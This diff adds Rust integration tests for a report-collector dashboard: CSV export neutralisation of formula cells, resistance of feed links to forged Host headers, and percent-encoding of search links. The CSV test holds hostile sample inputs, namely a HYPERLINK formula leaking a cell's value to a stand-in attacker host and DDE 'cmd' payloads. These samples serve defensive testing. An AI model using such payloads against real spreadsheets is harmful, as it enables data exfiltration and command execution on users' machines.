@@ -1017,3 +1017,199 @@ async fn head_requests_are_judged_as_get_and_unknown_methods_are_refused() {
         }
     }
 }
+
+/// Issue 11, point 9. Cells of a CSV export that a spreadsheet would run as a formula (`=`,
+/// `+`, `-`, `@`) are neutralised as OWASP recommends: a leading single quote, the field quoted.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_export_neutralises_formula_cells() {
+    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let c = collector_with_users(&tmp.path().join("collector")).await;
+    let addr = http_addr(&c);
+    let (analyst, csrf) = dashboard_login(addr, "analis1", PASSWORD).await;
+    let hostile = [
+        "=HYPERLINK(\"http://jahat.example/?\"&A1,\"klik\")",
+        "+62 811 aman",
+        "-1+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
+    for claim in hostile {
+        let reply = http_call(
+            addr,
+            "POST",
+            "/verifikasi",
+            &[
+                ("Cookie", &analyst),
+                ("Content-Type", "application/x-www-form-urlencoded"),
+            ],
+            &form_body(&[
+                ("csrf", &csrf),
+                ("claim", claim),
+                ("url", "https://contoh.example/klaim"),
+            ]),
+        )
+        .await;
+        assert_eq!(reply.status, 303, "{}", reply.body);
+    }
+    let csv = http_call(
+        addr,
+        "GET",
+        "/api/v1/claims?format=csv",
+        &[("Cookie", &analyst)],
+        "",
+    )
+    .await;
+    assert_eq!(csv.status, 200);
+    for claim in hostile {
+        let quoted = format!("\"'{}\"", claim.replace('"', "\"\""));
+        assert!(
+            csv.body.contains(&quoted),
+            "{claim} is not neutralised:\n{}",
+            csv.body
+        );
+    }
+    // No field of any line starts a formula.
+    for line in csv.body.lines() {
+        for field in line.split(',') {
+            assert!(
+                !field.starts_with(['=', '+', '@']) && !field.starts_with("-1"),
+                "a formula cell: {field} in {line}"
+            );
+        }
+    }
+}
+
+/// Issue 11, point 14. The feeds' links come from the configured `public_url` (or the
+/// configured listen address), never from the request's `Host` or `X-Forwarded-Proto`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn feed_links_ignore_a_hostile_host_header() {
+    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let dir = tmp.path().join("collector");
+    init_collector_with(&dir, |t| {
+        t.replace(
+            "[dashboard]",
+            "[dashboard]\npublic_url = \"https://pasopati.contoh.go.id\"",
+        )
+    });
+    let c = collector_with_users(&dir).await;
+    let addr = http_addr(&c);
+    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
+    let hostile = [
+        ("Cookie", viewer.as_str()),
+        ("Host", "jahat.example"),
+        ("X-Forwarded-Proto", "javascript"),
+        ("X-Forwarded-Host", "jahat.example"),
+    ];
+    let json = http_call(addr, "GET", "/feed/feed.json", &hostile, "").await;
+    assert_eq!(json.status, 200, "{}", json.body);
+    let feed: Value = serde_json::from_str(&json.body).unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(
+        feed["feed_url"],
+        "https://pasopati.contoh.go.id/feed/feed.json"
+    );
+    assert_eq!(
+        feed["home_page_url"],
+        "https://pasopati.contoh.go.id/publikasi"
+    );
+    let atom = http_call(addr, "GET", "/feed/atom.xml", &hostile, "").await;
+    assert_eq!(atom.status, 200, "{}", atom.body);
+    assert!(
+        atom.body
+            .contains("href=\"https://pasopati.contoh.go.id/feed/atom.xml\""),
+        "{}",
+        atom.body
+    );
+    for body in [&json.body, &atom.body] {
+        assert!(
+            !body.contains("jahat") && !body.contains("javascript"),
+            "{body}"
+        );
+    }
+    drop(c);
+
+    // Without `public_url`, links use the configured listen address.
+    let dir = tmp.path().join("tanpa-url");
+    let c = collector_with_users(&dir).await;
+    let addr = http_addr(&c);
+    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
+    let json = http_call(
+        addr,
+        "GET",
+        "/feed/feed.json",
+        &[("Cookie", &viewer), ("Host", "jahat.example")],
+        "",
+    )
+    .await;
+    let feed: Value = serde_json::from_str(&json.body).unwrap_or_else(|e| panic!("{e}"));
+    let config =
+        pasopati_collector::config::CollectorConfig::load(&dir).unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(
+        feed["feed_url"],
+        format!("http://{}/feed/feed.json", config.http_listen)
+    );
+}
+
+/// Issue 11, point 19. The dashboard's links percent-encode their query: a search for
+/// `a&b#c` keeps its value through the pagination link and the CSV link.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn search_links_percent_encode_their_values() {
+    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let c = collector_with_users(&tmp.path().join("collector")).await;
+    let addr = http_addr(&c);
+    let agent_dir = tmp.path().join("agent");
+    c.enroll_agent(&agent_dir, "lapas-uji").await;
+    let agent = pasopati_agent::Agent::open(&agent_dir).unwrap_or_else(|e| panic!("{e}"));
+    let handle = agent.handle();
+    for i in 0..3 {
+        let mut d = draft(i);
+        d.body = format!("{} Kode uji a&b#c.", d.body);
+        handle.file(d).unwrap_or_else(|e| panic!("{e}"));
+    }
+    let stop = tokio_util::sync::CancellationToken::new();
+    let task = tokio::spawn(agent.run_with(
+        pasopati_agent::RunOptions {
+            control_socket: false,
+            inbox: false,
+            web: false,
+        },
+        stop.clone(),
+    ));
+    eventually("the reports stored", Duration::from_secs(30), || {
+        c.store.report_count().is_ok_and(|n| n == 3)
+    })
+    .await;
+    stop.cancel();
+    let _ = task.await;
+
+    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
+    let page = http_call(
+        addr,
+        "GET",
+        "/laporan?q=a%26b%23c&limit=1",
+        &[("Cookie", &viewer)],
+        "",
+    )
+    .await;
+    assert_eq!(page.status, 200);
+    let href = |body: &str, label: &str| -> String {
+        body.split("<a href=\"")
+            .filter_map(|s| s.split_once("\">"))
+            .find(|(_, rest)| rest.starts_with(label))
+            .map(|(h, _)| h.replace("&amp;", "&"))
+            .unwrap_or_else(|| panic!("no link {label}: {body}"))
+    };
+    let next = href(&page.body, "Berikutnya");
+    assert!(next.contains("q=a%26b%23c"), "{next}");
+    let csv = href(&page.body, "Unduh CSV");
+    assert!(csv.contains("q=a%26b%23c"), "{csv}");
+    // Following the link keeps the search (the form shows it again) and moves on a page.
+    let second = http_call(addr, "GET", &next, &[("Cookie", &viewer)], "").await;
+    assert_eq!(second.status, 200);
+    assert!(
+        second
+            .body
+            .contains("name=\"q\" placeholder=\"Cari teks…\" value=\"a&amp;b#c\""),
+        "{}",
+        second.body
+    );
+    assert!(next.contains("offset=1"), "{next}");
+}
